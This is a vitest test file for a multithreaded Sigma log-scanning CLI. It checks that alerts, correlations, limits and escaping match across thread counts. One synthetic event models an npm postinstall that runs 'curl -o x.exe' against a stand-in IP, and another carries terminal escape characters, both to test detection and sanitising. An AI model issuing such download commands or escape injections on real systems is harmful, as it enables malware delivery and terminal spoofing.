import { spawnSync } from 'node:child_process';
import { appendFileSync, closeSync, mkdirSync, mkdtempSync, openSync, readFileSync, writeFileSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { writeEvents } from '../../src/bench/generate.js';
import { CLI, REPO, requireShared, runCli } from '../helpers/cli.js';

/**
 * Worker threads send their alerts as UTF-8 blocks (parallel/alert-block.ts); the main thread
 * merges correlation alerts into them, applies --limit and counts rules for the summary. Each
 * case compares one thread with two, stdout byte for byte and the summary line for line.
 */
const dir = mkdtempSync(join(tmpdir(), 'sw-threads-'));
const input = join(dir, 'big.ndjson');

// ~16% of the stress mix: ~2,000 alerts (~4 MB of JSONL) per 16 MiB range, several blocks each.
const SHELLS = `title: Shell or scripting host
id: 44444444-0000-4000-8000-000000000001
level: low
logsource: {category: process_creation, product: windows}
detection:
  sel: {Image|endswith: ['\\cmd.exe', '\\powershell.exe', '\\python.exe']}
  condition: sel
`;
const WHOAMI = `title: whoami
id: 44444444-0000-4000-8000-000000000002
name: whoami
level: medium
logsource: {category: process_creation, product: windows}
detection: {sel: {Image|endswith: '\\whoami.exe'}, condition: sel}
`;
// A burst per host fires as soon as it holds (mid-block); an upper bound is decided later,
// when the window closes or at the end of the input (the main thread's finish).
const BURST = `title: Two whoami on one host within an hour
id: 44444444-0000-4000-8000-000000000003
level: high
correlation: {type: event_count, rules: [whoami], group-by: [Computer], timespan: 1h, condition: {gte: 2}, generate: true}
`;
const QUIET = `title: At most 500 whoami on one host within a minute
id: 44444444-0000-4000-8000-000000000004
level: informational
correlation: {type: event_count, rules: [whoami], group-by: [Computer], timespan: 1m, condition: {lte: 500}, generate: true}
`;

function pack(name: string, files: Record<string, string>): string {
  const path = join(dir, name);
  mkdirSync(path);
  for (const [file, text] of Object.entries(files)) writeFileSync(join(path, file), text);
  return path;
}

/** The summary without the lines that vary from run to run. */
function summary(stderr: string): string[] {
  return stderr.split('\n').filter((line) => !/^(elapsed|peak memory|threads):/.test(line));
}

async function both(args: string[]): Promise<[Awaited<ReturnType<typeof runCli>>, Awaited<ReturnType<typeof runCli>>]> {
  return Promise.all([runCli([...args, '--threads', '1']), runCli([...args, '--threads', '2'])]);
}

const BAD_LINE = 30_000;

beforeAll(async () => {
  await writeEvents(input, 40_000); // ~50 MB: above the parallel threshold, three ranges
  // A bad record in the second range: its line number is counted on the main thread.
  const lines = readFileSync(input, 'utf8').split('\n');
  lines.splice(BAD_LINE - 1, 0, '{"EventID": 1, "Image": truncated');
  writeFileSync(input, lines.join('\n'));
});

describe('two worker threads and one thread', () => {
  it('give the same bytes for alerts that fill several blocks per task, and the same summary', { timeout: 15_000 }, async () => {
    const rules = pack('shells', { 'shells.yml': SHELLS });
    const [one, two] = await both(['scan', input, '--rules', rules, '--format', 'jsonl']);
    expect(one.status).toBe(1);
    expect(two.stdout).toBe(one.stdout);
    expect(summary(two.stderr)).toEqual(summary(one.stderr));
    expect(one.stdout.length).toBeGreaterThan(10 << 20);
    expect(one.stderr).toMatch(/bad records: 1\n/);
    expect(one.stderr).toContain(`big.ndjson:${BAD_LINE}: otrf: invalid JSON`);
  });

  it('write the same bytes to a file, where written blocks go back to their scanner for reuse', { timeout: 15_000 }, () => {
    const rules = pack('file', { 'shells.yml': SHELLS });
    const outputs = ['1', '2'].map((threads) => {
      const path = join(dir, `out-${threads}.jsonl`);
      const fd = openSync(path, 'w');
      const r = spawnSync(process.execPath, [CLI, 'scan', input, '--rules', rules, '--format', 'jsonl', '-q', '--threads', threads], { cwd: REPO, stdio: ['ignore', fd, 'pipe'] });
      closeSync(fd);
      expect(r.status).toBe(1);
      return readFileSync(path);
    });
    expect(outputs[0]!.length).toBeGreaterThan(10 << 20);
    expect(outputs[1]!.equals(outputs[0]!)).toBe(true);
  });

  it('merge correlation alerts after the alerts of the event that completed them, as one thread does', { timeout: 15_000 }, async () => {
    const rules = pack('corr', { 'shells.yml': SHELLS, 'whoami.yml': WHOAMI, 'burst.yml': BURST, 'quiet.yml': QUIET });
    const [one, two] = await both(['scan', input, '--rules', rules, '--format', 'jsonl']);
    expect(two.stdout).toBe(one.stdout);
    expect(summary(two.stderr)).toEqual(summary(one.stderr));
    const titles = one.stdout.trim().split('\n').map((l) => JSON.parse(l).rule.title as string);
    const burst = titles.flatMap((t, i) => (t === 'Two whoami on one host within an hour' ? [i] : []));
    expect(burst.length).toBeGreaterThan(100);
    // Interleaved with the other alerts, not gathered at the end of a block or task.
    expect(burst.filter((i) => titles[i + 1] === 'Shell or scripting host').length).toBeGreaterThan(50);
    expect(titles.filter((t) => t.startsWith('At most 500')).length).toBeGreaterThan(100);
  });

  it('and three threads (the main thread and two workers) give the same bytes', { timeout: 15_000 }, async () => {
    const rules = pack('three', { 'shells.yml': SHELLS, 'whoami.yml': WHOAMI, 'burst.yml': BURST });
    const args = ['scan', input, '--rules', rules, '--format', 'jsonl'];
    const [one, three] = await Promise.all([runCli([...args, '--threads', '1']), runCli([...args, '--threads', '3'])]);
    expect(three.stdout).toBe(one.stdout);
    expect(summary(three.stderr)).toEqual(summary(one.stderr));
  });

  it('print the same first alerts with --limit and no ORDER BY', { timeout: 60_000 }, async () => {
    const rules = pack('limit', { 'shells.yml': SHELLS, 'whoami.yml': WHOAMI, 'burst.yml': BURST });
    for (const limit of ['0', '1', '2500', '9000']) {
      const [one, two] = await both(['scan', input, '--rules', rules, '--format', 'jsonl', '--limit', limit]);
      expect(two.stdout, `--limit ${limit}`).toBe(one.stdout);
      expect(summary(two.stderr)).toEqual(summary(one.stderr));
      expect(one.stdout.split('\n').length - 1).toBe(Number(limit));
    }
  });

  it('print the same newest alerts with the seed pack\'s ORDER BY and --limit', { timeout: 15_000 }, async () => {
    const [one, two] = await both(['scan', input, '--format', 'csv', '--limit', '700']);
    expect(one.status).toBe(1);
    expect(two.stdout).toBe(one.stdout);
    expect(summary(two.stderr)).toEqual(summary(one.stderr));
    expect(one.stdout.split('\r\n').filter(Boolean)).toHaveLength(701);
    expect(one.stderr).toMatch(/\(700 printed after ordering\/limit\)/);
  });

  it('escape untrusted text in the table format as one thread does', { timeout: 15_000 }, async () => {
    const evil = join(dir, 'evil.ndjson');
    writeFileSync(evil, readFileSync(input, 'utf8'));
    const event = { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS-9\u001b[2J\u202e', UtcTime: '2026-11-28 00:00:00.000', Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c "\u0007\u009b31m é ✓"' };
    appendFileSync(evil, JSON.stringify(event) + '\n');
    const rules = pack('table', { 'shells.yml': SHELLS });
    const [one, two] = await both(['scan', evil, '--rules', rules, '--format', 'table']);
    expect(two.stdout).toBe(one.stdout);
    expect(one.stdout).toContain('é ✓');
    expect(one.stdout).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
  });

  it('compile a pack of many files, one rejected, loaded twice, as the main thread loads it: the same alerts', async () => {
    // Workers start before the load and compile each file's rules as it loads (pool.ts).
    const files: Record<string, string> = { 'whoami.yml': WHOAMI, 'shells.yml': SHELLS, 'broken.yml': 'title: broken\nlogsource: {product: windows}\ndetection: {sel: {Image|nosuch: x}, condition: sel}\n' };
    for (let k = 0; k < 40; k += 1) {
      files[`r${k}.yml`] = `title: rule ${k}\nid: 44444444-0000-4000-8001-${String(k).padStart(12, '0')}\nlevel: low\nlogsource: {category: process_creation, product: windows}\ndetection: {sel: {CommandLine|contains: ' ${k}'}, condition: sel}\n`;
    }
    const rules = pack('many', files);
    const [one, two] = await both(['scan', input, '--rules', rules, '--rules', rules, '--format', 'jsonl']);
    expect(one.status).toBe(1);
    expect(one.stderr).toMatch(/rules: 84 loaded, 2 rejected/);
    expect(one.stderr).toContain('broken.yml:3:');
    expect(two.stdout).toBe(one.stdout);
    expect(summary(two.stderr)).toEqual(summary(one.stderr));
    expect(two.stderr).toMatch(/^threads: 2$/m);
  }, 120_000);

  it('are capped at four per core however many --threads asks for, with the same output', async () => {
    // 260 one-line files: 260 tasks, where `--threads 1000` started a worker for each.
    const folder = mkdtempSync(join(tmpdir(), 'sw-threads-many-'));
    const line = readFileSync(join(REPO, 'samples', 'sysmon-npm-install.ndjson'), 'utf8').split('\n')[0]!;
    for (let i = 0; i < 260; i += 1) writeFileSync(join(folder, `${String(i).padStart(3, '0')}.ndjson`), `${line}\n`);
    const [one, many] = await Promise.all([runCli(['scan', folder, '--rules', 'seed', '--threads', '1']), runCli(['scan', folder, '--rules', 'seed', '--threads', '1000'])]);
    const most = 4 * availableParallelism();
    expect(many.stderr).toMatch(new RegExp(`^threads: ${most} \\(of 1000 asked: at most 4 per core\\)$`, 'm'));
    expect(many.stdout).toBe(one.stdout);
    expect(summary(many.stderr)).toEqual(summary(one.stderr));
  }, 60_000);

  it('stop the workers they started when no rule loads, and exit 2', async () => {
    const rules = pack('none', { 'broken.yml': 'title: broken\nlogsource: {product: windows}\ndetection: {condition: sel}\n' });
    const r = await runCli(['scan', input, '--rules', rules, '--threads', '2']);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('no rule could be loaded');
    expect(r.stdout).toBe('');
  });

  it('enrich across many tasks, tasks queued ahead, exactly as one thread does', async () => {
    // Each install starts before ~25 MB of unrelated events and its downloader runs after them:
    // its process tree spans tasks run by different scanners, with tasks queued behind the
    // running one (pool.ts queues one when many remain: 8 ranges here).
    const filler = readFileSync(input, 'utf8').split('\n').slice(0, 20_000).join('\n') + '\n';
    const SYSMON = { Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon', Computer: 'BUILD-7' };
    const line = (o: object) => JSON.stringify({ ...SYSMON, ...o }) + '\n';
    const at = (k: number, s: number) => `2026-11-27 0${k}:00:0${s}.000`;
    const npm = (k: number) => line({ EventID: 1, UtcTime: at(k, 0), ProcessGuid: `{n${k}}`, ParentProcessGuid: '{x}', Image: 'C:\\Program Files\\nodejs\\node.exe', CommandLine: `node npm-cli.js install pkg-${k}` });
    const script = (k: number) => line({ EventID: 1, UtcTime: at(k, 1), ProcessGuid: `{s${k}}`, ParentProcessGuid: `{n${k}}`, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /d /s /c "node postinstall.js"', CurrentDirectory: `C:\\w\\node_modules\\pkg-${k}\\` });
    const curl = (k: number) => line({ EventID: 1, UtcTime: at(k, 2), ProcessGuid: `{c${k}}`, ParentProcessGuid: `{s${k}}`, Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -o x.exe http://203.0.113.7/x.exe' });
    const many = join(dir, 'installs.ndjson');
    writeFileSync(many, '');
    for (let k = 0; k < 6; k += 1) appendFileSync(many, npm(k) + script(k) + filler + curl(k));
    const rules = pack('enrich', { 'r.yml': `title: Downloader below an npm install
id: 44444444-0000-4000-8000-000000000005
level: high
logsource: {category: process_creation}
detection:
  sel: {Image|endswith: '\\curl.exe', InstallPackageManager: npm, AncestorImages|endswith: '\\node.exe'}
  condition: sel
` });
    const args = ['scan', many, '--rules', rules, '--format', 'jsonl'];
    const [one, two, three] = await Promise.all(['1', '2', '3'].map((t) => runCli([...args, '--threads', t])));
    expect(one.stderr).toMatch(/events read: 120018\b/);
    expect(two.stdout).toBe(one.stdout);
    expect(three.stdout).toBe(one.stdout);
    const alerts = one.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(alerts.map((a) => a.fields.InstallPackage)).toEqual(['pkg-0', 'pkg-1', 'pkg-2', 'pkg-3', 'pkg-4', 'pkg-5']);
  }, 120_000);

  it('scan a folder of many small EVTX files with every SigmaHQ Windows rule (enrichment on: DestinationHostname) as one thread does', async () => {
    const folder = requireShared('corpus/evtx-attack-samples');
    const args = ['scan', folder, '--rules', requireShared('sigmahq/rules/windows'), '--format', 'jsonl'];
    const [one, two, three] = await Promise.all(['1', '2', '3'].map((t) => runCli([...args, '--threads', t])));
    expect(one.stderr).toMatch(/events read: 8255\b/);
    expect(two.stderr).toMatch(/^threads: 2$/m);
    expect(one.stdout.split('\n').length).toBeGreaterThan(1000);
    expect(two.stdout).toBe(one.stdout);
    expect(three.stdout).toBe(one.stdout);
    // The summary too: the folder's LICENSE.GPL is listed as not read (found in a folder: no failure), not as a bad record.
    expect(summary(two.stderr)).toEqual(summary(one.stderr));
    expect(summary(three.stderr)).toEqual(summary(one.stderr));
    expect(two.stderr).toMatch(/^not read: .*LICENSE\.GPL: unrecognized format/m);
    expect([one.status, two.status, three.status]).toEqual([1, 1, 1]);
  }, 120_000);
});
